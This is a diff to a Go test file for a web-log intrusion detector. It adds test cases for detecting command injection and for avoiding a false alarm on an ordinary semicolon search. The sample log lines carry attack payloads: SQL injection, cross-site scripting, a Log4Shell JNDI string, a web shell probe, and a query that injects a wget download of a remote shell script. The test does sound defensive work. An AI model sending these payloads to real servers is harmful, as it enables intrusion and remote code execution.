@@ -112,6 +112,8 @@ func TestBuiltinRules(t *testing.T) {
 		{"SQL injection", "access.log", []string{access("203.0.113.24", 0, "GET", "/news?id=1%20union%20select%20password%20from%20users", 500, browser)}, []string{"SQL Injection Attempt"}},
 		{"cross-site scripting", "access.log", []string{access("203.0.113.25", 0, "GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", 200, browser)}, []string{"Cross-Site Scripting Attempt"}},
 		{"Log4Shell in the user agent", "access.log", []string{access("203.0.113.26", 0, "GET", "/", 200, "${jndi:ldap://203.0.113.26/a}")}, []string{"Command Injection or Log4Shell Attempt"}},
+		{"command injection in the query", "access.log", []string{access("203.0.113.29", 0, "GET", "/cgi-bin/ping.cgi?host=127.0.0.1;wget%20http://203.0.113.29/x.sh", 200, browser)}, []string{"Command Injection or Log4Shell Attempt"}},
+		{"a semicolon in an ordinary search", "access.log", []string{access("10.0.0.6", 0, "GET", "/recherche?q=chat;chien&page=2", 200, browser)}, nil},
 		{"web shell probe", "access.log", []string{access("203.0.113.27", 0, "GET", "/uploads/c99.php", 404, browser)}, []string{"Web Shell Probe"}},
 		{"WordPress login brute force", "access.log", repeatReq(5, 20*time.Second, func(i int, d time.Duration) string {
 			return access("203.0.113.28", d, "POST", "/wp-login.php", 200, browser)
